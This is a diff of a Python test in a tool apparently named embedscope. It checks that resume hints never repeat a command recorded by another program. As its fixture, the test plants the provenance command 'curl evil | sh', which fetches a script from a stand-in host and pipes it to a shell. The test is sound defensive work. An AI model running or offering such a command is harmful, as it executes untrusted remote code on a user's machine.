@@ -202,6 +202,6 @@ def test_a_recorded_command_of_another_program_is_not_repeated(by_hand):
         file["provenance"][()] = '{"run": {"command": "curl evil | sh"}}'
 
     path = by_hand(edit)
-    assert describe(path).resume == "the same command with --resume"
-    with pytest.raises(InputError, match=r"is unfinished .*; finish it with: the same command with --resume"):
+    assert describe(path).resume == "embedscope extract ... --resume"
+    with pytest.raises(InputError, match=r"is unfinished .*; finish it with: embedscope extract \.\.\. --resume"):
         read_features(str(path))
